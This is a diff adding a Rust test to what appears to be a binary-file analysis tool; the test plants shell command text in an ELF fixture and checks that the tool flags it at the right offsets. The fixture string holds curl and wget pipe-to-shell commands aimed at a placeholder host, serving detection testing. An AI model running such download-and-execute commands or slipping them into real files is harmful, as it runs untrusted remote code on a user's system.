@@ -70,6 +70,17 @@ fn what_compilers_write_is_read_whole() {
 }
 
 #[test]
+fn command_lines_among_the_data_are_stated_once() {
+    let (_, mut bytes) = of("plain.so");
+    let at = bytes.len();
+    let text = b"curl -s http://x.example/a | sh; wget -qO- http://x.example/a | sh";
+    bytes.extend([&[0; 80][..], text, &[0; 80], b"curl easy", &[0; 2 << 20], text, &[0]].concat());
+    let reading = reading::read(&ELF, "x", &bytes).unwrap();
+    let texts: Vec<_> = reading.facts.iter().filter(|fact| fact.subject() == "shell.list").map(|fact| fact.at.offset).collect();
+    assert_eq!(texts, [(at + 80) as u64, (bytes.len() - 1 - text.len()) as u64]);
+}
+
+#[test]
 fn every_prefix_stops_politely() {
     for (format, name, bytes) in FILES {
         for cut in testkit::prefixes(bytes, &[]).filter(|cut| *cut > 4) {
